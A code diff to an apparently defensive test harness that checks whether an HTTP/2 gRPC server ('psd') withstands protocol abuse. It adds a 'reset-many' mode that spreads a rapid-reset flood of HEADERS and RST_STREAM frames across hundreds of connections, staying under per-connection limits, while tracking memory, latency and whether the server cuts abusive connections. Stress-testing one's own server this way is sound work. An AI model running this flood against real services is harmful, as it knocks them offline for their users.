@@ -273,7 +273,9 @@ class Good:
 
 def main():
     ap = argparse.ArgumentParser()
-    ap.add_argument("attack", choices=["stall", "silent", "reset", "forge"])
+    ap.add_argument("attack", choices=["stall", "silent", "reset", "reset-many", "forge"])
+    ap.add_argument("--conns", type=int, default=300, help="reset-many: connections kept open")
+    ap.add_argument("--rate", type=float, default=150, help="reset-many: resets a second per connection")
     ap.add_argument("host")
     ap.add_argument("port", type=int)
     ap.add_argument("pid", type=int)
@@ -298,6 +300,7 @@ def main():
     ap.add_argument("--max-streams", type=int, default=2_000_000)
     ap.add_argument("--max-rss-mb", type=float)
     ap.add_argument("--max-latency-s", type=float)
+    ap.add_argument("--min-ok", type=int, default=3, help="assert: at least this many well-behaved calls answered")
     ap.add_argument("--expect-ended", action="store_true")
     ap.add_argument("--expect-cut", action="store_true", help="reset: psd must close the connection")
     a = ap.parse_args()
@@ -415,6 +418,72 @@ def main():
                     good.failed.append(f"only {len(mon.lat)} monitor calls answered")
             if a.expect_ended and ended < sent // 2 and not a.keep_up:
                 good.failed.append(f"psd ended only {ended} of {sent} stalled streams")
+        elif a.attack == "reset-many":
+            # rapid reset spread over many connections from one address,
+            # each under the per-connection threshold (issue 23 item 2)
+            live = []
+            opened = 0
+            cut = 0
+            most = 0
+            block = None
+
+            def connect():
+                nonlocal opened
+                if opened >= 20 * a.conns:
+                    return None
+                try:
+                    c = H2Conn(a.host, a.port, a.tls, source=a.source)
+                except OSError:
+                    return None
+                opened += 1
+                conns.append(c)
+                return c
+
+            for _ in range(a.conns):
+                c = connect()
+                if c:
+                    live.append(c)
+            last_sample = 0
+            per_round = 10
+            while time.monotonic() < t_end and sent < a.max_streams:
+                t_round = time.monotonic()
+                for i, c in enumerate(live):
+                    if c is None or c.closed:
+                        if c is not None:
+                            cut += 1
+                            c.close()
+                        live[i] = c = connect()
+                        if c is None:
+                            continue
+                    if block is None:
+                        block = headers_block("/ps.ParameterServer/GetParameters", authority, c.scheme, a.token)
+                    burst = bytearray()
+                    for _ in range(per_round):
+                        sid = c.next_id
+                        c.next_id += 2
+                        burst += frame(1, 0x4, sid, block) + frame(3, 0, sid, struct.pack(">I", 8))
+                    try:
+                        c.send(bytes(burst))
+                        sent += per_round
+                    except OSError:
+                        c.closed = True
+                        continue
+                    c.pump()
+                most = max(most, sum(1 for c in live if c is not None and not c.closed))
+                now = time.monotonic()
+                if now - last_sample > 0.2:
+                    peak = max(peak, rss_mb(a.pid) or 0)
+                    last_sample = now
+                # each connection stays under a.rate resets a second
+                time.sleep(max(0.0, per_round / a.rate - (time.monotonic() - t_round)))
+            for c in live:
+                if c is not None and c.closed:
+                    cut += 1
+            extra = (f", {sent} HEADERS+RST_STREAM pairs sent ({sent / a.seconds:.0f}/s) on {opened} "
+                     f"connections ({a.conns} kept open, at most {a.rate:.0f} resets/s each), "
+                     f"{cut} closed by psd")
+            if a.expect_cut and cut < 1:
+                good.failed.append("psd never closed a resetting connection")
         else:
             c = H2Conn(a.host, a.port, a.tls, source=a.source)
             conns.append(c)
@@ -475,8 +544,8 @@ def main():
     bad = []
     if good.failed:
         bad.append(f"well-behaved calls failed: {good.failed[:3]}")
-    if good.ok < 3:
-        bad.append(f"only {good.ok} well-behaved calls completed")
+    if good.ok < a.min_ok:
+        bad.append(f"only {good.ok} well-behaved calls completed (want {a.min_ok})")
     if a.max_rss_mb is not None and growth > a.max_rss_mb:
         bad.append(f"RSS grew {growth:.0f} MiB > {a.max_rss_mb} MiB")
     gbound = max(1.0, 10 * good_base)
